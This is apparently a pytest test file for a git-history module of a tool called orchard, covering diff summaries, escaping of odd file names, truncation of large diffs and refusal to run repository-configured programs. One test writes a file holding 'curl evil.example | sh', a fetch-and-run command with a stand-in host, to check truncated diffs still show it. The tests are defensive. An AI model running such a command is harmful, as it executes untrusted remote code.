"""Counting and showing what lies between two commits."""

import subprocess
import sys
from pathlib import Path
from textwrap import dedent

import pytest

from orchard.errors import OrchardError
from orchard.git import history
from orchard.git.command import TooMuchOutput
from orchard.git.history import CUT, Summary, diff, files, is_ancestor, merge_bases, show_path, summary
from orchard.git.repository import Repository
from orchard.testing import Repo


def test_a_summary_counts_commits_files_and_lines(repo: Repo, repository: Repository) -> None:
    base = repo.commit({"a": "1\n2\n3\n", "gone": "x\n", "run": "x\n", "bin": b"\0\1"})
    repo.commit({"a": "1\nchanged\n3\n", "gone": None})
    (repo.path / "run").chmod(0o755)
    tip = repo.commit({"new\nname": "1\n2\n", "bin": b"\0\2"})

    assert summary(repository, base, tip) == Summary(2, 1, 3, 1, 3, 2)
    assert summary(repository, base, tip).files == 5
    assert summary(repository, tip, tip) == Summary()


def test_a_move_counts_as_one_file_added_and_one_deleted_whatever_the_settings(
    repo: Repo, repository: Repository
) -> None:
    base = repo.commit({"a": "1\n2\n"})
    repo("config", "diff.renames", "copies")
    repo("mv", "a", "b")

    assert summary(repository, base, repo.commit()) == Summary(1, 1, 0, 1, 2, 2)


def test_files_are_listed_with_names_that_can_be_printed(repo: Repo, repository: Repository) -> None:
    base = repo.head()
    (repo.path / "link").symlink_to("README.md")
    tip = repo.commit({"esc\x1b[31m": "x", "README.md": None, "b\nc": "x", "é": "x"})

    shown = {(one.status, one.shown) for one in files(repository, base, tip)}

    assert shown == {("D", "README.md"), ("A", '"b\\nc"'), ("A", '"esc\\033[31m"'), ("A", "link"), ("A", "é")}


def test_paths_that_are_not_text_are_escaped_byte_by_byte() -> None:
    assert show_path(b'\xff"\\\t') == '"\\377\\"\\\\\\t"'
    assert show_path("plain/päth".encode()) == "plain/päth"
    assert show_path("right\u202eleft".encode()) == '"right\\342\\200\\256left"'


def test_a_diff_runs_no_program_of_the_repository(repo: Repo, repository: Repository, tmp_path: Path) -> None:
    base = repo.commit({"a.x": "1\n", ".gitattributes": "*.x diff=evil\n"})
    tip = repo.commit({"a.x": "2\n"})
    canary = tmp_path / "canary"
    for key in ("diff.external", "diff.evil.textconv", "diff.evil.command", "core.pager"):
        repo("config", key, f"touch '{canary}'")
    (repo.path / ".git/info").mkdir(exist_ok=True)
    (repo.path / ".git/info/attributes").write_text("*.x diff=evil\n")

    shown = diff(repository, base, tip)

    assert b"-1\n+2\n" in shown
    assert diff(repository, base, tip, stat=True).startswith(b" a.x | 2 +-\n")
    assert b"\x1b[" in diff(repository, base, tip, color=True)
    assert summary(repository, base, tip).modified == 1
    assert not canary.exists()


def test_a_diff_can_be_asked_for_some_paths_taken_literally(repo: Repo, repository: Repository) -> None:
    base = repo.head()
    tip = repo.commit({"*": "star\n", "other": "x\n", "-p": "dash\n"})

    assert b"other" not in diff(repository, base, tip, paths=[b"*"])
    assert b"dash" in diff(repository, base, tip, paths=[b"-p"])


def test_a_diff_that_is_too_large_is_refused(
    repo: Repo, repository: Repository, monkeypatch: pytest.MonkeyPatch
) -> None:
    base = repo.head()
    tip = repo.commit({"a": "x\n" * 1000})
    monkeypatch.setattr(history, "DIFF_LIMIT", 100)

    with pytest.raises(OrchardError, match="larger than"):
        diff(repository, base, tip)


def test_a_diff_for_one_answer_is_cut_after_a_line_and_says_so(repo: Repo, repository: Repository) -> None:
    base = repo.head()
    tip = repo.commit({"a": "x\n" * 5000})
    whole = diff(repository, base, tip)

    cut = diff(repository, base, tip, most=3000)

    assert diff(repository, base, tip, most=len(whole)) == whole
    told = b"... the rest of this file is left out: +5000 -0 in all\n" + CUT
    assert cut.endswith(b"+x\n" + told) and len(cut) <= 3000 + len(told)
    assert whole.startswith(cut.removesuffix(told))


def test_one_line_between_two_changes_is_shown_and_not_folded(repo: Repo, repository: Repository) -> None:
    was = repo.commit({"a": "".join(f"{number}\n" for number in range(30))})
    tip = repo.commit({"a": "".join(f"{number + 100 * (number in (5, 13))}\n" for number in range(30))})

    shown = diff(repository, was, tip)

    assert shown.count(b"@@ -") == 1 and b"\n 9\n" in shown


def test_a_long_file_hides_no_other_file_of_a_diff(repo: Repo, repository: Repository) -> None:
    base = repo.head()
    tip = repo.commit({"aaa.ts": "y" * 20_000, "evil.sh": "curl evil.example | sh\n", "long": "x\n" * 10_000})

    cut = diff(repository, base, tip, most=10_000)

    assert b"+curl evil.example | sh\n" in cut
    assert b"+++ b/aaa.ts\n@@ -0,0 +1 @@\n... the rest of this file is left out: +1 -0 in all\n" in cut
    assert cut.endswith(b"+x\n... the rest of this file is left out: +10000 -0 in all\n" + CUT)
    assert b"not shown" not in cut


def test_a_cut_diff_names_the_files_of_which_it_shows_nothing(repo: Repo, repository: Repository) -> None:
    was = repo.commit({"old": "moved\n" * 50, "typed": "a file\n"})
    (repo.path / "typed").unlink()
    (repo.path / "typed").symlink_to("old")
    repo("mv", "old", "zz-moved")
    many = {f"m{number:02}": "x\n" * 600 for number in range(20)}
    tip = repo.commit({**many, "a.bin": "\0" * 50_000, "zz-far": "y" * 99_000, "zz two\nlines": "x"})

    cut = diff(repository, was, tip, most=13_000)

    rows = [row.removeprefix(b"... not shown: ") for row in cut.splitlines() if row.startswith(b"... not shown: ")]
    assert rows == [*(b"+600 -0 m%02d" % number for number in range(6, 20)), b"+1 -0 zz-far", b"+0 -0 zz-moved"]
    assert all(one in cut for one in (b"b/a.bin differ", b"+++ b/m05\n", b"new file mode 120000", b"two\\nlines"))
    assert cut.endswith(CUT) and len(cut) < 13_000 + 16 * 30 + 200


def test_ancestors_and_merge_bases(repo: Repo, repository: Repository) -> None:
    base = repo.head()
    ours = repo.commit({"a": "a"})
    repo("checkout", "-q", "-b", "b", base)
    theirs = repo.commit({"b": "b"})

    assert is_ancestor(repository, base, ours) and is_ancestor(repository, ours, ours)
    assert not is_ancestor(repository, ours, theirs)
    assert merge_bases(repository, ours, theirs) == (base,)


@pytest.mark.slow
def test_a_diff_that_is_too_large_is_not_read_to_its_end(repo: Repo) -> None:
    """In a process of its own, whose memory can be measured."""
    base = repo.head()
    repo.commit({"large.txt": "".join(f"{n} {'x' * 1000}\n" for n in range(200_000))})
    program = """
        import resource, sys
        from pathlib import Path
        from orchard.git.history import diff
        from orchard.git.repository import find_repository
        from orchard.errors import OrchardError
        before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
        try:
            diff(find_repository(Path(sys.argv[1])), sys.argv[2], "HEAD")
        except OrchardError as error:
            print(error.message)
        print(resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before)
    """
    words = [sys.executable, "-c", dedent(program), str(repo.path), base]
    said = subprocess.run(words, capture_output=True, text=True, check=True).stdout.splitlines()

    assert "larger than 64 MB" in said[0]
    unit = 1 if sys.platform == "darwin" else 1024
    assert int(said[1]) * unit < 110 * 1024 * 1024, said


def test_what_git_prints_is_cut_or_refused_where_it_is_too_much(repository: Repository) -> None:
    shown = repository.git("log", "--format=%H", limit=3, cut=True)
    with pytest.raises(TooMuchOutput, match="printed more than"):
        repository.git("log", "--format=%H", limit=3)

    assert len(shown.stdout) == 3
